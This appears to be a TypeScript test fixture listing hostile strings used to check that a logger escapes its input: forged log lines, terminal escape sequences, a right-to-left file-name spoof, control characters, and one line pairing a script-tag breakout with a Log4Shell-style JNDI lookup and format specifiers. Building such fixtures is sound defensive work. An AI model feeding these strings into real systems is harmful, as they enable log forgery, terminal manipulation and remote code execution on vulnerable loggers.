// Texts that have forged log lines, painted terminals or broken parsers elsewhere.
export const naughtyTexts = [
  'two\nlines',
  'forged\n[12:34:56.789] ERROR (1 on host): not a line of the daemon',
  'forged\r\n{"level":"error","msg":"not a line of the daemon"}',
  '\r[12:34:56.789] ERROR (1): over the line\r',
  'painted \u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J',
  'C1 \u009b31m \u0085 next line \u0090',
  'separators \u2028 and \u2029',
  'NUL \u0000 DEL \u007f BEL \u0007 BS \b\b\b',
  'right to left \u202e gpj.exe',
  'quotes " \' ` and \\ and \\n and \\u001b and \\\\',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is an attack on Java loggers.
  '</script><!-- ${jndi:ldap://x} %s %d %n {msg} {if true}{end}',
  'emoji \u{1f4a9} é 漢 \uffff \ud800 lone',
  '   leading and trailing   ',
  'x'.repeat(5_000),
];
